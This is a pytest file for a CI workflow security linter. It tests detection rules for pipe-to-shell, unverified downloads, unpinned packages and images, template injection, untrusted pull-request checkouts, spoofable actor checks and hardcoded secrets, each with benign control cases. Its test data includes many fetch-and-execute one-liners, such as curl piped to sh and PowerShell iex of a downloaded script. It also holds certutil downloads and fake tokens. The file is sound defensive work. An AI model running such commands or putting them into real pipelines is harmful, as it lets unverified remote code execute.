"""Kinds of public bug reports, each by several members of our own: what must be found, and its control beside it."""

from __future__ import annotations

import json
import time

import pytest

from garrison_supply.pipelines.document import parse
from garrison_supply.pipelines.load import view
from garrison_supply.pipelines.rule import judge
from garrison_supply.pipelines.rules import RULES

HEX = "0123456789abcdef0123456789abcdef01234567"
SHA = "sha256:" + "0" * 64


def ids(text: str) -> set[str]:
    return {one.rule for one in judge(RULES, view(parse("ci.yml", text)))}


def shell(script: str, **step: object) -> str:
    """A workflow with one script; YAML is a superset of JSON."""
    job = {"runs-on": "ubuntu-24.04", "timeout-minutes": 5, "steps": [{"run": script, **step}]}
    return json.dumps({"on": "push", "permissions": {}, "jobs": {"a": job}})


def workflow(step: dict[str, object], on: object = "push", job: object = None, **top: object) -> str:
    whole = {"runs-on": "ubuntu-24.04", "timeout-minutes": 5, "steps": [step]} | (job if isinstance(job, dict) else {})
    return json.dumps({"on": on, "permissions": {}, **top, "jobs": {"a": whole}})


FOUND = {
    "pipe-to-shell": [
        'git commit -m "fixes #1 and #2"; curl -s https://a.example/x | sh',
        "curl -s https://a.example/x | tee log | sh",
        "curl -s https://a.example/x | gunzip | bash -s -- --yes",
        "curl -s https://a.example/x | A=1 B=2 sudo -E bash",
        "curl -s https://a.example/x | sudo -u root /bin/bash -e",
        "wget -O- https://a.example/x | python3 -",
        "wget -qO - https://a.example/x |\n\n  # a comment\n  bash",
        "curl -s https://a.example/x \\\n  | env A=b sh",
        'bash -c "$(curl -s https://a.example/x)"',
        "sh -c \"`curl -s https://a.example/x`\"",
        "eval \"$(wget -qO- https://a.example/x)\"",
        "source <(curl -s https://a.example/x)",
        ". <(curl -s https://a.example/x)",
        "bash < <(curl -s https://a.example/x)",
        'bash <<< "$(curl -s https://a.example/x)"',
        "sudo sh -c 'curl -s https://a.example/x | sh'",
        "x=$(curl -s https://a.example/x)\neval \"$x\"",
        'x="$(curl -s https://a.example/x)"; echo "$x" | bash',
        "if true; then curl -s https://a.example/x | sh; fi",
        "(cd /tmp && curl -s https://a.example/x | sh)",
        "f() { curl -s https://a.example/x | sh; }\nf",
        "bash <<'END'\ncurl -s https://a.example/x | sh\nEND",
        "cat <<END\n$(curl -s https://a.example/x | sh)\nEND",
        "curl -s https://a.example/x | xargs -0 bash -c",
        "irm https://a.example/x.ps1 | iex",
        "iwr -useb https://a.example/x.ps1 | Invoke-Expression",
        "iex ((New-Object System.Net.WebClient).DownloadString('https://a.example/x.ps1'))",
        "Invoke-Expression (Invoke-RestMethod https://a.example/x.ps1)",
        "& ([scriptblock]::Create((irm https://a.example/x.ps1)))",
        'powershell -c "irm https://a.example/x.ps1 | iex"',
        "curl -s https://a.example/x |& bash",
        "curl -s https://a.example/x | node",
        "curl -s https://a.example/x | timeout 60 bash",
    ],
    "unverified-download": [
        "curl -fsSL https://a.example/t.tgz | tar xz",
        "curl -fsSL https://a.example/t.tgz | tar -xzC /usr/local/bin",
        "curl -fsSL https://a.example/t.tgz | sudo tar --extract --gzip",
        "wget -qO- https://a.example/t.tgz | tar zxf -",
        "curl -fsSL https://a.example/t.gz | gunzip > t",
        "curl -fsSL https://a.example/t | sudo tee /usr/bin/t",
        "curl -fsSL https://a.example/t > t",
        "curl -fsSLot https://a.example/t",
        "curl -fsSL --output=t https://a.example/t",
        "curl -OL https://a.example/t",
        "curl --remote-name https://a.example/t",
        "wget https://a.example/t",
        "wget -q -O t https://a.example/t",
        "wget -Ot https://a.example/t",
        "wget --output-document=t https://a.example/t",
        "aria2c https://a.example/t",
        "gh release download v1 -p t",
        "gh release download --repo a/b v1",
        "Invoke-WebRequest https://a.example/t.exe -OutFile t.exe",
        "iwr -Uri https://a.example/t.exe -OutFile t.exe; ./t.exe",
        "Invoke-RestMethod -OutFile t.exe -Uri https://a.example/t.exe",
        "Start-BitsTransfer -Source https://a.example/t.exe -Destination t.exe",
        "(New-Object Net.WebClient).DownloadFile('https://a.example/t.exe', 't.exe')",
        "certutil -urlcache -split -f https://a.example/t.exe t.exe",
        "pwsh -Command \"Invoke-WebRequest https://a.example/t.exe -OutFile t.exe\"",
        "echo 'x  t' | sha256sum -c\ncurl -o t https://a.example/t",
    ],
    "adhoc-packages": [
        "npm add x", "npm i x", "npm --silent install", "npm --prefix web i", "npm in x", "npm update", "npm exec x",
        "npx x", "pnpm add x", "pnpm dlx x", "yarn add x", "yarn global add x", "yarn dlx x", "bunx x", "bun add x",
        "pip --no-cache-dir install x", "pip3 install x", "pip3.12 install x", "python -m pip install x",
        "python3 -u -m pip -q install x", "sudo -H pip install x", "PIP_NO_CACHE_DIR=1 pip install -r r.txt",
        "pipx install x", "pipx run x", "uvx x check", "uv tool install x", "uv tool run x", "uv pip install x",
        "uv add x",
        "uv run --with x y", "poetry add x", "gem install x", "gem i x", "cargo install x", "cargo binstall x",
        "go install a.example/b@latest", "go install -v a.example/b@main", "go run a.example/b@latest",
        "go get -u ./...",
        "composer require a/b", "conda install x", "dotnet tool install x", "bash -c 'npm install'", "cd web && npm i",
        "curl -L https://a.example/releases/latest/download/x | jq", "a=$(npx x)", "time npm install",
        "bash <<'END'\nnpm install\nEND", "if ! npm install; then exit 1; fi", "for x in a b; do pip install $x; done",
    ],
    "swallowed-failure": [
        'echo "run # 5"; pytest || true',
        "pytest | tee log", "pytest 2>&1 | tail -5", "go test ./... | grep -v ok", "npm test | cat",
        "make lint | tee x",
        "./scripts/run-tests.sh | tee x", "ci/steps/scan | tee x", "uv run pytest | tee x", "trivy fs . | tee x",
        "pytest || :", "pytest || echo failed", "pytest || exit 0", "pytest || { echo failed; }",
        "pytest || (echo a; echo b)",
        "cargo test || true", "python -m unittest || true", "npm run test:unit || true", "bash -c 'pytest || true'",
        "docker run --rm image pytest || true", "if true; then pytest || true; fi", "pytest; true",
        "pytest | tee a | tail -1 || true",
    ],
}  # fmt: skip
LEFT = {
    "pipe-to-shell": [
        "true # curl -s https://a.example/x | sh",
        "echo 'curl -s https://a.example/x | sh'",
        'echo "irm https://a.example/x.ps1 | iex"',
        "cat <<'END'\ncurl -s https://a.example/x | sh\nEND",
        "curl -s https://a.example/x | jq .a | sha256sum",
        "curl -s https://a.example/x | python3 -m json.tool",
        "curl -s https://a.example/x | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
        "curl -s https://a.example/x | perl -ne 'print if /a/'",
        "curl -s https://a.example/x | node -e 'read()'",
        "curl -s https://a.example/x | bash -c 'cat > /dev/null'",
        "curl -s https://a.example/x; bash own.sh",
        "version=$(curl -s https://a.example/version)\necho \"$version\"",
        "git log | sh own.sh",
        "bash own.sh --url=https://a.example/x",
    ],
    "unverified-download": [
        "wget -qO- https://a.example/x | jq .a",
        "wget -O - https://a.example/x | jq .a",
        "wget --output-document=- https://a.example/x | jq .a",
        "wget --spider https://a.example/x",
        "curl -fsS -o /dev/null https://a.example/health",
        "curl -sS -w '%{http_code}' -o /dev/null https://a.example/health > /dev/null",
        "curl -fsS https://a.example/health 2>&1",
        "echo 'wget https://a.example/t'",
        "echo curl -o t https://a.example/t",
        "cat > readme <<'END'\nwget https://a.example/t\nEND",
        "wget https://a.example/t\necho \"$SUM  t\" | sha256sum --check",
        "curl -o t https://a.example/t && cosign verify-blob t",
        "curl -o t https://a.example/t\nsha256sum t | grep -q 0123",
        "Invoke-WebRequest https://a.example/t -OutFile t; if ((Get-FileHash t).Hash -ne $env:SUM) { exit 1 }",
        "gh release download v1 -p t\ngh attestation verify t --owner a",
        "tar xzf own.tgz",
    ],
    "adhoc-packages": [
        'echo "please run npm install first"', "echo npm install", "printf 'pip install x'",
        "cat <<END\nnpm install\nEND",
        "git commit -m 'npm install'", "npm ci", "npm --silent ci", "npm run install-hooks", "npx --no-install x",
        "npx x@1.2.3",
        "pip install --require-hashes -r lock", "PIP_REQUIRE_HASHES=1 pip install -r lock",
        "pip install --no-deps -e .",
        "uvx ruff@0.9.1 check", "uv sync --locked", "uv run pytest", "poetry install", "pnpm install --frozen-lockfile",
        "yarn install --immutable", "bun install --frozen-lockfile", "go install a.example/b@v1.2.3", "go run ./cmd/x",
        "cargo install --locked x", "gem install x -v 1.2.3", "bundle install", "composer install", "npm --version",
        "# npm install", "make install", "ls | grep 'npm install'", "helm install x", "brew list",
    ],
    "swallowed-failure": [
        "docker rm -f test-db || true", "rm -rf tests/tmp || true", "kubectl delete namespace test || true",
        "docker compose -f test.yml down || true", "pkill -f pytest || true", "git branch -D test || true",
        "mkdir test || true",
        "cp tests/data x || true", "make clean-tests || true", "echo 'pytest || true'", "pytest || exit 1",
        "pytest || { echo failed; exit 1; }", "pytest || (echo failed; exit 1)", "pytest || echo failed && exit 1",
        "pytest || FAILED=1", "set -o pipefail\npytest | tee log", "set -euo pipefail; pytest | tee log",
        "cat list | xargs pytest", "pytest --version | head -1", "grep -c test log | tee x", "ls tests | tee x",
        "pytest\ntrue", "pytest || return 1",
    ],
}  # fmt: skip


@pytest.mark.parametrize(("rule", "script"), [(rule, one) for rule, listed in FOUND.items() for one in listed])
def test_each_script_of_the_kind_is_found(rule: str, script: str) -> None:
    assert rule in ids(shell(script))


@pytest.mark.parametrize(("rule", "script"), [(rule, one) for rule, listed in LEFT.items() for one in listed])
def test_what_only_looks_like_it_is_left_alone(rule: str, script: str) -> None:
    assert rule not in ids(shell(script))


@pytest.mark.parametrize("script", FOUND["swallowed-failure"][1:5])
def test_bash_that_is_named_fails_in_its_pipes(script: str) -> None:
    assert "swallowed-failure" not in ids(shell(script, shell="bash"))
    assert "swallowed-failure" in ids(shell(script, shell="sh"))
    assert "swallowed-failure" not in ids(workflow({"run": script}, defaults={"run": {"shell": "bash"}}))
    assert "swallowed-failure" not in ids(json.dumps({"a": {"script": [script]}}))  # GitLab's runner sets it


TITLE = "${{ github.event.issue.title }}"
PINNED = f"actions/checkout@{HEX}"


@pytest.mark.parametrize(
    "inner",
    [
        "format('{{\"a\":\"{0}\"}}', github.event.issue.title)", "format('}}', github.event.issue.title)",
        "format('it''s }} {0}', github.event.issue.title)", "github.event.inputs.sha", "github.event.inputs.number",
        "github.event.client_payload.id", "github.event.client_payload.pull_request.number",
        "GITHUB.EVENT['Issue'].Title",
        "github.event.issue.title || 'none'", "github.event.issue.number == 1 && github.event.issue.title",
        "toJSON(github.event)", "join(github.event.issue.labels.*.name, ' ')", "github.event.commits[0].message",
        "fromJSON(needs.a.outputs.b).c", "(github.head_ref || github.ref_name)", "steps.a.outputs.b", "vars.A",
        "github.event.pull_request.head.repo.default_branch", "env.NEVER_SET", "inputs.text", "matrix.given",
    ],
)  # fmt: skip
def test_text_of_others_is_found_however_the_expression_is_written(inner: str) -> None:
    on = {"workflow_dispatch": {"inputs": {"sha": {}, "number": {"type": "string"}, "text": {}}}, "issues": {}}
    strategy = {"strategy": {"matrix": {"given": [TITLE]}}}
    assert "template-injection" in ids(workflow({"run": "x ${{ " + inner + " }}"}, on, strategy))


@pytest.mark.parametrize(
    "inner",
    [
        "github.event.pull_request.number", "github.event.workflow_run.head_sha", "github.event.workflow_run.id",
        "github.sha",
        "github.event.issue.title == 'a'", "contains(github.event.issue.title, 'a')", "!github.event.issue.title",
        "github.event.issue.title == 'a' && '--a' || '--b'", "inputs.dry && '--dry' || ''", "inputs.dry",
        "inputs.level",
        "github.event.inputs.dry", "matrix.python", "matrix.more", "env.VERSION", "env.OTHER",
        "'github.event.issue.title'",
        "hashFiles('github.event')", "github.event.repository.full_name", "needs.a.result", "steps.a.outcome",
        "runner.os",
        "github.event.pull_request.merge_commit_sha", "github.event.pull_request.created_at", "github.event_name",
    ],
)  # fmt: skip
def test_what_cannot_be_text_of_others_is_left_alone(inner: str) -> None:
    on = {"workflow_dispatch": {"inputs": {"dry": {"type": "boolean"}, "level": {"type": "choice", "options": ["a"]}}}}
    strategy = {"strategy": {"matrix": {"python": ["3.12"], "include": [{"more": "a"}]}}}
    top = {"env": {"VERSION": "1", "OTHER": "${{ github.sha }}"}}
    assert "template-injection" not in ids(workflow({"run": "x ${{ " + inner + " }}"}, on, strategy, **top))


@pytest.mark.parametrize(
    ("step", "job", "top"),
    [
        ({"run": "x", "shell": "bash -c '" + TITLE + "' {0}"}, {}, {}),
        ({"uses": f"docker://a@{SHA}", "with": {"args": "-c '" + TITLE + "'"}}, {}, {}),
        ({"uses": f"docker://a@{SHA}", "with": {"entrypoint": TITLE}}, {}, {}),
        ({"uses": f"actions/github-script@{HEX}", "with": {"script": TITLE}}, {}, {}),
        ({"uses": f"a/b@{HEX}", "with": {"pre-command": TITLE}}, {}, {}),
        ({"run": "x"}, {"defaults": {"run": {"shell": TITLE}}}, {}),
        ({"run": "x"}, {}, {"defaults": {"run": {"shell": TITLE}}}),
        ({"run": "x"}, {"container": {"image": f"a@{SHA}", "options": TITLE}}, {}),
    ],
)
def test_every_place_of_a_program_is_read(
    step: dict[str, object], job: dict[str, object], top: dict[str, object]
) -> None:
    assert "template-injection" in ids(workflow(step, "issues", job, **top))
    clean = json.loads(json.dumps([step, job, top]).replace("github.event.issue.title", "github.event.issue.number"))
    assert "template-injection" not in ids(workflow(clean[0], "issues", clean[1], **clean[2]))


def checkout(ref: str, **step: object) -> dict[str, object]:
    return {"uses": PINNED, "with": {"ref": ref, "persist-credentials": False}, **step}


HEAD = "${{ github.event.pull_request.head.sha }}"


@pytest.mark.parametrize(
    "step",
    [
        checkout("${{ github.event.pull_request.merge_commit_sha }}"),
        checkout("${{ github.event['pull_request'].HEAD.sha }}"),
        checkout("${{ github.HEAD_REF }}"), checkout("${{ env.HEAD }}"), checkout("${{ env.OWN }}", env={"OWN": HEAD}),
        checkout("refs/pull/${{ github.event.number }}/merge"), checkout("pull/1/head"),
        {"run": "git fetch origin pull/1/head"}, {"run": 'git checkout "$HEAD"'}, {"run": "git -C x checkout ${HEAD}"},
        {"run": f"git clone https://a.example/b && git checkout {HEAD}"}, {"run": "gh pr checkout 1"},
        {"uses": PINNED, "with": {"repository": "${{ github.event.pull_request.head.repo.full_name }}"}},
        checkout(HEAD, **{"if": "github.event.pull_request.merged == false"}),
        checkout(HEAD, **{"if": "github.event.pull_request.merged == true || always()"}),
    ],
)  # fmt: skip
def test_a_strangers_code_is_found_in_other_words(step: dict[str, object]) -> None:
    assert "untrusted-checkout" in ids(workflow(step, "pull_request_target", env={"HEAD": HEAD}))
    assert "untrusted-checkout" not in ids(workflow(step, "pull_request", env={"HEAD": HEAD}))


@pytest.mark.parametrize(
    ("step", "job"),
    [
        (checkout("${{ github.event.pull_request.merge_commit_sha }}"), {"if": "github.event.pull_request.merged"}),
        (checkout(HEAD, **{"if": "github.event['pull_request'].merged == true && success()"}), {}),
        (checkout("${{ github.event.pull_request.base.sha }}"), {}),
        (checkout("${{ env.VERSION }}"), {}),
        ({"run": 'echo "$HEAD"'}, {}),
    ],
)
def test_what_was_reviewed_may_be_checked_out(step: dict[str, object], job: dict[str, object]) -> None:
    assert "untrusted-checkout" not in ids(
        workflow(step, "pull_request_target", job, env={"HEAD": HEAD, "VERSION": "v1"})
    )


@pytest.mark.parametrize(
    "condition",
    [
        "github.ACTOR == 'a'", "github['actor'] == 'a'", "'a' == github.actor", "github.actor != 'a'",
        "startsWith(github.actor, 'a')", "endsWith( github.triggering_actor, '[bot]' )",
        "contains('a b', github.actor)",
        "contains(fromJSON('[\"a\"]'), github.actor)", "${{ github.actor == 'a' }}", "github.actor_id == 1",
        "github.event.sender.login == 'a'", "true && (github.event_name == 'push' || github.actor == 'a')",
    ],
)  # fmt: skip
def test_who_started_the_run_is_found_in_other_words(condition: str) -> None:
    assert "spoofable-actor" in ids(workflow({"run": "x"}, "pull_request_target", {"if": condition}))


def test_who_started_the_run_may_be_shown() -> None:
    step: dict[str, object] = {
        "run": "x",
        "env": {"WHO": "${{ github.actor }}"},
        "if": "github.event.pull_request.user.login == 'a'",
    }
    assert "spoofable-actor" not in ids(workflow(step))
    step["env"] = {"TRUSTED": "${{ github.actor == 'a' }}"}
    assert "spoofable-actor" in ids(workflow(step))


CREDENTIALS = {
    "AWS_SECRET_ACCESS_KEY": "aB3/dE6fG9hI2jK5lM8nO1pQ4rS7tU0vW3xY6zA9", "API_TOKEN": "c2VjcmV0/2VjcmV0Cg==",
    "TOKEN": "abc-def",
    "DB_PASSWORD": "12345678", "MY_SECRET": "hunter2", "api-key": "abcdef",
}  # fmt: skip
HARMLESS = {
    "MAX_TOKENS": "4096", "HAS_TOKEN": "true", "USE_SECRET": "yes", "TOKEN": "/run/secrets/token",
    "TOKENS": "1_000_000",
    "MY_SECRET": "./secret", "A_TOKEN": "vault/path/token", "B_TOKEN": "$OTHER", "C_TOKEN": "${{ secrets.A }}",
    "D_TOKEN": "",
    "MIN_PASSWORD": "12", "ID_TOKEN": "none", "E_TOKEN": "https://a.example/token", "SESSION_TOKEN": "30m",
}  # fmt: skip


@pytest.mark.parametrize(("name", "value"), CREDENTIALS.items())
def test_a_credential_is_found_wherever_it_stands(name: str, value: str) -> None:
    assert "hardcoded-secret" in ids(workflow({"run": "x", "env": {name: value}}))
    assert "hardcoded-secret" in ids(workflow({"uses": f"a/b@{HEX}", "with": {name: value}}))
    assert "hardcoded-secret" in ids(json.dumps({"variables": {name: value}, "a": {"script": ["x"]}}))


@pytest.mark.parametrize(("name", "value"), HARMLESS.items())
def test_paths_amounts_and_switches_are_no_credentials(name: str, value: str) -> None:
    assert "hardcoded-secret" not in ids(workflow({"run": "x", "env": {name: value}}))
    assert "hardcoded-secret" not in ids(json.dumps({"variables": {name: value}, "a": {"script": ["x"]}}))


@pytest.mark.parametrize(
    "text",
    ["ghp_" + "a1" * 18, "glpat-" + "a1" * 10, "AKIA" + "A1" * 8, "https://user:hunter2@a.example/x",
     "npm_" + "a1" * 18,
     "-----BEGIN RSA " + "PRIVATE KEY-----"],
)  # fmt: skip
def test_a_credential_of_known_shape_is_found_in_a_script(text: str) -> None:
    assert "hardcoded-secret" in ids(shell(f"curl -H 'Authorization: token {text}' https://a.example"))
    assert "hardcoded-secret" in ids(json.dumps({"a": {"script": [f"git clone {text}"]}}))


def test_an_address_whose_password_comes_from_elsewhere_is_none() -> None:
    assert "hardcoded-secret" not in ids(
        shell("git clone https://oauth2:$TOKEN@a.example/x https://u:${{ secrets.A }}@a.example")
    )


@pytest.mark.parametrize(
    ("image", "strategy", "pinned"),
    [
        ("${{ matrix.image }}", {"image": [f"a@{SHA}", f"b@{SHA}"]}, True),
        ("${{ matrix.image }}", {"image": [f"a@{SHA}", "b:1"]}, False),
        ("${{ matrix.image }}", {"include": [{"image": f"a@{SHA}"}]}, True),
        ("${{ matrix.image }}", {"image": [f"a@{SHA}"], "include": [{"image": "b:1"}]}, False),
        ("a@${{ matrix.digest }}", {"digest": [SHA]}, True),
        ("a:${{ matrix.tag }}", {"tag": ["1"]}, False),
        ("${{ matrix.image }}", "${{ fromJSON(needs.a.outputs.b) }}", False),
        ("${{ matrix.other }}", {"image": [f"a@{SHA}"]}, False),
    ],
)
def test_an_image_through_a_matrix_is_what_stands_there(image: str, strategy: object, pinned: bool) -> None:
    text = workflow({"run": "x"}, job={"strategy": {"matrix": strategy}, "container": image})
    assert ("unpinned-images" not in ids(text)) == pinned


@pytest.mark.parametrize(("value", "pinned"), [(f"a@{SHA}", True), ("a:1", False), (None, False)])
def test_an_image_through_a_variable_is_what_stands_there(value: str | None, pinned: bool) -> None:
    variables = {"variables": {"IMAGE": value}} if value else {}
    assert (
        "unpinned-images" not in ids(json.dumps({**variables, "a": {"script": ["x"], "image": "$IMAGE"}}))
    ) == pinned
    row = {"parallel": {"matrix": [{"IMAGE": [value]}]}} if value else {}
    assert ("unpinned-images" not in ids(json.dumps({"a": {"script": ["x"], "image": "${IMAGE}", **row}}))) == pinned


def gitlab(top: object = None, /, **job: object) -> str:
    deploy: dict[str, object] = {
        "script": ["./deploy"],
        "id_tokens": {"T": {"aud": "x"}},
        "environment": "live",
        "needs": [],
        "timeout": "1m",
    }
    return json.dumps({**(top if isinstance(top, dict) else {}), "deploy": deploy | job})


MAIN = "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"


@pytest.mark.parametrize(
    "job",
    [
        {"rules": [{"if": "$CI_COMMIT_BRANCH != $CI_DEFAULT_BRANCH"}]}, {"rules": [{"if": "$CI_COMMIT_TAG == null"}]},
        {"rules": [{"if": '$CI_COMMIT_REF_PROTECTED == "false"'}]},
        {"rules": [{"if": '$CI_COMMIT_REF_PROTECTED != "true"'}]},
        {"rules": [{"if": f"{MAIN} || $CI_COMMIT_BRANCH =~ /^feature/"}]}, {"rules": [{"if": f"({MAIN}) || $A"}]},
        {"rules": [{"if": MAIN}, {"if": "$A"}]}, {"rules": [{"when": "always"}]}, {"rules": [{"changes": ["a"]}]},
        {"rules": [{"if": f'$CI_PIPELINE_SOURCE == "merge_request_event" || {MAIN}'}]},
        {"rules": [{"if": "$CI_DEFAULT_BRANCH"}]}, {"rules": [{"if": "$CI_COMMIT_BRANCH =~ /main/"}]},
        {"rules": [{"if": "$CI_DEFAULT_BRANCH != $CI_COMMIT_BRANCH"}]}, {"rules": [{"if": "$CI_COMMIT_TAG !~ /v/"}]},
        {"rules": [{"if": '$CI_COMMIT_REF_PROTECTED == "true" && $CI_PIPELINE_SOURCE == "merge_request_event"'}]},
        {"rules": [{"if": MAIN, "when": "never"}, {"when": "on_success"}]}, {"rules": [{"if": "("}]},
        {"only": ["branches"]}, {"only": ["main", "merge_requests"]}, {"only": ["/^release/"]}, {"except": ["main"]},
        {"only": {"variables": ["$A"]}}, {"only": []}, {}, {"only": {"refs": ["main", "dev"]}},
    ],
)  # fmt: skip
def test_unreviewed_branches_are_seen(job: dict[str, object]) -> None:
    assert "credentials-with-foreign-code" in ids(gitlab(**job))


@pytest.mark.parametrize(
    "job",
    [
        {"rules": [{"if": MAIN}]}, {"rules": [{"if": "$CI_DEFAULT_BRANCH == $CI_COMMIT_BRANCH"}]},
        {"rules": [{"if": f"({MAIN})"}]},
        {"rules": [{"if": f"{MAIN} && $A"}]}, {"rules": [{"if": f"$A =~ /b|c/ && ({MAIN} || $CI_COMMIT_TAG)"}]},
        {"rules": [{"if": "$CI_COMMIT_TAG"}]}, {"rules": [{"if": "$CI_COMMIT_TAG =~ /^v/"}]},
        {"rules": [{"if": "$CI_COMMIT_TAG != null"}]},
        {"rules": [{"if": '$CI_COMMIT_REF_PROTECTED == "true"'}]},
        {"rules": [{"if": "$CI_COMMIT_REF_PROTECTED == 'true'"}]},
        {"rules": [{"if": '$CI_COMMIT_BRANCH == "main"'}]},
        {"rules": [{"if": "${CI_COMMIT_BRANCH} == $CI_DEFAULT_BRANCH"}]},
        {"rules": [{"if": "$CI_COMMIT_BRANCH != $CI_DEFAULT_BRANCH", "when": "never"}, {"when": "on_success"}]},
        {"rules": [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"', "when": "never"}, {"if": MAIN}]},
        {"rules": [{"if": f'{MAIN} && $CI_PIPELINE_SOURCE != "merge_request_event"'}]},
        {"only": ["main"]}, {"only": ["tags"]}, {"only": {"refs": ["main", "tags"]}}, {"only": "master"},
        {"only": ["main@a/b"]},
        {"only": {"variables": ['$CI_COMMIT_REF_PROTECTED == "true"']}},
    ],
)  # fmt: skip
def test_protected_branches_are_seen(job: dict[str, object]) -> None:
    assert "credentials-with-foreign-code" not in ids(gitlab(**job))


def test_the_rules_of_the_workflow_hold_for_each_job() -> None:
    assert "credentials-with-foreign-code" not in ids(gitlab({"workflow": {"rules": [{"if": MAIN}]}}))
    assert "credentials-with-foreign-code" in ids(gitlab({"workflow": {"rules": [{"if": MAIN}, {"if": "$A"}]}}))


@pytest.mark.parametrize(
    ("declared", "found"),
    [
        ("{}", True),
        ("{type: string}", True),
        ("{regex: '.*'}", True),
        ("{type: boolean}", False),
        ("{type: number}", False),
        ("{options: [a, b]}", False),
        ("{regex: '^v[0-9]+$'}", False),
        ("{default: a}", True),
    ],
)
@pytest.mark.parametrize("key", ["script", "before_script", "after_script"])
def test_the_inputs_of_a_component_are_pasted(declared: str, found: bool, key: str) -> None:
    job = {"script": ["x"], "timeout": "1m", key: ["echo $[[ inputs.name | expand_vars ]]"]}
    assert ("evaluated-text" in ids(f"spec: {{inputs: {{name: {declared}}}}}\n---\n{json.dumps({'a': job})}")) == found


@pytest.mark.parametrize(
    ("with_", "uses", "found"),
    [
        ({"repository": "a/b", "ref": "main", "path": ".ext"}, "./.ext/deploy", True),
        ({"repository": "a/b", "ref": "v1", "path": "./ext/"}, "./ext", True),
        ({"repository": "a/b"}, "./action", True),
        ({"repository": "a/b", "ref": HEX, "path": ".ext"}, "./.ext/deploy", False),
        ({"repository": "a/b", "ref": "main", "path": ".ext"}, "./own", False),
        ({"repository": "${{ github.repository }}", "path": ".ext"}, "./.ext/deploy", False),
        ({}, "./own", False),
    ],
)
def test_an_action_in_a_foreign_checkout_is_foreign(with_: dict[str, str], uses: str, found: bool) -> None:
    steps = [
        {"uses": PINNED, "with": {**with_, "persist-credentials": False}},
        {"uses": uses, "with": {"t": "${{ secrets.T }}"}},
    ]
    text = workflow({}, job={"steps": steps, "environment": "live"})
    assert ("unpinned-uses" in ids(text)) == found
    foreign = with_.get("repository") == "a/b" and uses != "./own"
    assert ("secrets-with-foreign-code" in ids(text)) == foreign


@pytest.mark.parametrize(
    "text",
    ["${{", "${{ '", "${{ (", "$(", '"$(', "`", "((", "<<a\n", "$[[", "$[[ inputs.a ", "a=(", "curl ", "| ", "://a:"],
)
def test_a_long_script_of_openings_is_read_at_once(text: str) -> None:
    """Ten times the size takes about ten times as long: nothing searches to the end from every place."""

    def took(size: int) -> float:
        whole = shell(text * (size // len(text)))
        start = time.process_time()
        ids(whole)
        return time.process_time() - start

    assert took(90_000) < 40 * took(9_000) + 0.5
